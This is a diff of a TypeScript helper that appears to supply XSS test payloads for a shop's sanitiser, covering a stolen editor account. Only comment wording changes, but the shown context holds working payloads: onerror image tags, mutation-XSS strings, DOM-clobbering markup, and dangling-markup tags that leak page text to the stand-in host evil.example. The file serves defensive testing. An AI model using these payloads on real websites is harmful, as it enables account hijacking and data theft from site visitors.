@@ -1,6 +1,6 @@
 /**
- * What an editor's account that fell into wrong hands might write: each calls `ran(…)` with its own number where
- * anything of it is run, or asks `evil.example` where anything of it is loaded.
+ * Returns payloads that a stolen editor's account might write. Each calls `ran(…)` with its number if a part of it runs, or requests
+ * `evil.example` if a part of it is loaded.
  */
 export function xssPayloads(): string[] {
   const templates = [
@@ -139,7 +139,7 @@ const foreignContent = [
   '<math><mi><img src=x onerror=RUN></mi></math>',
 ]
 
-/** Harmless as written, something else once a browser has read its own output again. */
+/** Harmless as written, but dangerous after a browser has parsed its own serialisation again. */
 const mutations = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
@@ -258,7 +258,7 @@ const forms = [
   '<isindex type=image src=x onerror=RUN>',
 ]
 
-/** What follows would be sent along, up to the next quote. */
+/** Unclosed attributes: the following text would be sent along, up to the next quote. */
 const dangling = [
   "<img src='https://evil.example/?",
   '<img src="https://evil.example/?',
@@ -275,7 +275,7 @@ const dangling = [
   "<base target='",
 ]
 
-/** Names that the shop's own scripts look for. */
+/** Ids and names that the shop's own scripts look up. */
 const clobbering = [
   '<script type="application/json" id="page-data">{}</script>',
   '<div id="page-data">{"page":"home","data":{"html":"&lt;img src=x onerror=RUN&gt;"}}</div>',
